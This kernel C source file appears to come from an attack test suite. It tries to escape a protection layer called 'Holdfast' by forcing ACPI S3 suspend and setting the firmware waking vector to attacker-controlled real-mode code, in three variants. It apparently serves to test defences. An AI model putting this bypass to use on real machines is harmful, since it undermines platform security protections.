// SPDX-License-Identifier: GPL-2.0-only
/*
 * Suspend to RAM by hand: the store to PM1 control that ACPI's code makes last. The machine's clock
 * wakes it up, and firmware jumps to the waking vector, in real mode: there waits code of the
 * attacker.
 */
#include <linux/acpi.h>
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/kernel.h>
#include <linux/mc146818rtc.h>
#include <linux/mm.h>
#include <linux/slab.h>

#include "attack.h"
#include "leave.h"

/* Linux keeps the first MiB for firmware and its own start-up code: this page nobody uses. */
#define WAKE_PA 0x8000

/* ACPI 6.5, 4.8.3. */
#define PM1_CLOCK  BIT(10) /* of status, and of enable behind it */
#define PM1_ENABLE BIT(13)
#define PM1_TYPE   10

/* Stores value to port. Yields the trap. */
typedef int (*sleep_store)(u16 port, u16 value);

static int store_word(u16 port, u16 value)
{
	int trap = value;

	asm volatile("1:	outw %%ax, %%dx\n"
		     "	movl $-1, %%eax\n"
		     "2:\n" _ASM_EXTABLE_FAULT(1b, 2b)
		     : "+a"(trap)
		     : "d"(port)
		     : "memory");
	return trap;
}

/* The kernel's own code, past the notifier that keeps the honest kernel from it. */
static int store_kernel(u16 port, u16 value)
{
	acpi_enter_sleep_state(ACPI_STATE_S3);
	return TRAP_NONE;
}

static int store_string(u16 port, u16 value)
{
	const u16 *from = &value;
	int trap;

	asm volatile("1:	outsw\n"
		     "	movl $-1, %%eax\n"
		     "2:\n" _ASM_EXTABLE_FAULT(1b, 2b)
		     : "=a"(trap), "+S"(from)
		     : "d"(port)
		     : "memory");
	return trap;
}

/* An alarm every second; the first must not come before the machine sleeps. */
static void set_alarm(void)
{
	u16 status = acpi_gbl_FADT.xpm1a_event_block.address;
	u16 enable = status + acpi_gbl_FADT.pm1_event_length / 2;
	u8 now = CMOS_READ(RTC_SECONDS);

	CMOS_WRITE(RTC_ALARM_DONT_CARE, RTC_SECONDS_ALARM);
	CMOS_WRITE(RTC_ALARM_DONT_CARE, RTC_MINUTES_ALARM);
	CMOS_WRITE(RTC_ALARM_DONT_CARE, RTC_HOURS_ALARM);
	while (CMOS_READ(RTC_SECONDS) == now)
		cpu_relax();
	CMOS_READ(RTC_INTR_FLAGS); /* reading clears them */
	CMOS_WRITE(CMOS_READ(RTC_CONTROL) | RTC_AIE, RTC_CONTROL);
	outw(inw(enable) | PM1_CLOCK, enable);
	outw(PM1_CLOCK, status);
}

/* Does not return where the machine does sleep. */
static int sleep_now(sleep_store store, u8 type)
{
	u16 control = acpi_gbl_FADT.xpm1a_control_block.address;
	unsigned long flags;
	int trap;

	local_irq_save(flags);
	set_alarm();
	trap = store(control,
		     (inw(control) & ~(7 << PM1_TYPE)) | type << PM1_TYPE | PM1_ENABLE);
	local_irq_restore(flags);
	/* An emulator puts the machine to sleep when it comes to it. */
	if (trap == TRAP_NONE)
		ssleep(5);
	return trap;
}

static enum attack_outcome sleep_with(struct attempt *t, sleep_store store)
{
	u8 *page = __va(WAKE_PA), *saved, type_a, type_b;

	if (ACPI_FAILURE(acpi_get_sleep_type_data(ACPI_STATE_S3, &type_a, &type_b))) {
		attack_note(t, "this machine has no S3");
		return ATTACK_ERROR;
	}
	saved = kmemdup(page, PAGE_SIZE, GFP_KERNEL);
	if (!saved)
		return ATTACK_ERROR;
	if (!leave_write(page, &leave_real, "awake again, in real mode, without Holdfast") &&
	    ACPI_SUCCESS(acpi_set_firmware_waking_vector(WAKE_PA, 0))) {
		msleep(500); /* the report of the test machine must be out */
		t->trap = sleep_now(store, type_a);
		t->outcome = ATTACK_REFUSED;
		acpi_set_firmware_waking_vector(0, 0);
	}
	memcpy(page, saved, PAGE_SIZE);
	kfree(saved);
	return t->outcome;
}

/* A machine that slept has nobody left to look. */
static int sleep_look(struct attempt *t, u64 *is)
{
	*is = t->was;
	return 0;
}

static enum attack_outcome sleep_word(struct attempt *t)
{
	return sleep_with(t, store_word);
}

static enum attack_outcome sleep_kernel(struct attempt *t)
{
	if (ACPI_FAILURE(acpi_enter_sleep_state_prep(ACPI_STATE_S3)))
		return ATTACK_ERROR;
	return sleep_with(t, store_kernel);
}

static enum attack_outcome sleep_string(struct attempt *t)
{
	return sleep_with(t, store_string);
}

#define SLEEP(how, what, fn)                                                              \
	{                                                                                 \
		.name = "s3" how, .title = "suspend to RAM and wake up in own code" what, \
		.gives = "the machine without Holdfast", .asset = "sleep registers",      \
		.control = ATTACK_BARE, .own_vm = true, .run = fn, .look = sleep_look,    \
	}

static const struct attack sleep_attacks[] = {
	SLEEP("", "", sleep_word),
	SLEEP("-kernel", ", by the kernel's own function", sleep_kernel),
	SLEEP("-string", ", by OUTS", sleep_string),
};

const struct attack_table sleep_table = { sleep_attacks, ARRAY_SIZE(sleep_attacks) };
